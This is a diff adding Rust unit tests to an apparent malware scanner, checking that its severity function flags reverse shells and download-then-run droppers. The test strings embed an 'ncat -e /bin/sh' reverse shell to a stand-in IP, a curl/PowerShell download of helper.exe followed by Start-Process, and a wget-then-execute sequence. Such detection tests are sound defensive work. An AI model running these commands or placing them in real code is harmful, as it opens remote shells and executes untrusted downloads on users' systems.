@@ -1246,3 +1246,33 @@ fn invoke_expression_of_a_literal_is_not_hidden() {
         "import subprocess\ndef run():\n    subprocess.run(['powershell', '-Command', 'Invoke-Expression $payload'])\n";
     assert_eq!(severity_of("win.py", computed, "process-hostile"), Some(Severity::High));
 }
+
+/// A tool's name starts a word: "ffconcat version 1.0" written to a list
+/// file names no `ncat`; `ncat -e /bin/sh` does. Written for the test.
+#[test]
+fn a_hostile_tool_is_named_by_a_whole_word() {
+    let concat = "def write_list(path, files):\n    with open(path, 'w') as f:\n        \
+                  f.writelines(['ffconcat version 1.0\\n'] + [\"file '%s'\\n\" % x for x in files])\n";
+    assert_eq!(severity_of("concat.py", concat, "script-dropper"), None);
+    let shell = concat.replace("ffconcat version 1.0", "ncat -e /bin/sh 203.0.113.9 4444");
+    assert_eq!(severity_of("concat.py", &shell, "script-dropper"), Some(Severity::High));
+}
+
+/// curl, wget and PowerShell's web cmdlets told to write a file download
+/// to disk, however the process is started; the file started next is
+/// download-then-run (critical at load). A download alone runs nothing.
+/// Written for the test.
+#[test]
+fn a_download_tool_writing_a_file_then_a_start_is_download_then_run() {
+    let drop = "import os, subprocess\nout = os.path.join(os.getcwd(), 'helper.exe')\n\
+                cmd = f'curl.exe -L https://files.example.org/h.exe -o \"{out}\"'\n\
+                subprocess.run(['powershell', '-Command', cmd])\n\
+                subprocess.run(['powershell', '-Command', f'Start-Process \"{out}\"'])\n";
+    assert_eq!(severity_of("pkg/__init__.py", drop, "download-then-run"), Some(Severity::Critical));
+    let wget = "import subprocess\ndef update():\n    subprocess.call('wget -O /tmp/tool https://x.example/tool', shell=True)\n    \
+                subprocess.call(['/tmp/tool', '--install'])\n";
+    assert_eq!(severity_of("upd.py", wget, "download-then-run"), Some(Severity::High));
+    // Only a download: the tool's own process starts nothing it fetched.
+    let fetch = "import subprocess\nsubprocess.run(['curl', '-L', 'https://x.example/data.json', '-o', 'data.json'])\n";
+    assert_eq!(severity_of("pkg/__init__.py", fetch, "download-then-run"), None);
+}
